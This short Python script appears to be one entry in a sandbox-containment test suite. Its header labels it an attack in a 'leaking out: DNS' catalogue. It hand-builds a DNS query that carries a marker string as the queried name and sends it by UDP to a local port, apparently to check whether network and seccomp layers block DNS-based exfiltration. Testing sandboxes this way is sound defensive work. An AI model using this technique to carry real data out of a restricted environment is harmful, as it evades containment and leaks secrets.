# /// attack
# catalogue = "leaking out: DNS"
# layers = ["network", "seccomp"]
# aim = "packet"
# ///
# Sends one datagram in the form of a question to a name server.

# %%
import socket

name = bytes([len(TARGET["mark"])]) + TARGET["mark"].encode() + b"\x00"
question = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + name + b"\x00\x01\x00\x01"
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
    sender.sendto(question, ("127.0.0.1", TARGET["udp"]))
